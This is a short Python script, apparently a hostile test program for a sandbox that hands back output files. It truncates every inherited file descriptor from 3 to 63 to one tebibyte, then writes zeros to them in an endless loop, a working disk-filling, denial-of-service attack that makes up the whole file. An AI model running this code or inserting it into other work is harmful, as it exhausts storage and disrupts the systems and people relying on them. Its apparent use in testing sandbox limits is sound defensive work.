"""Makes the files that are handed back as large as it can."""

import contextlib
import os

for fd in range(3, 64):
    with contextlib.suppress(OSError):
        os.ftruncate(fd, 1 << 40)
while True:
    for fd in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(fd, b"\0" * (1 << 20))
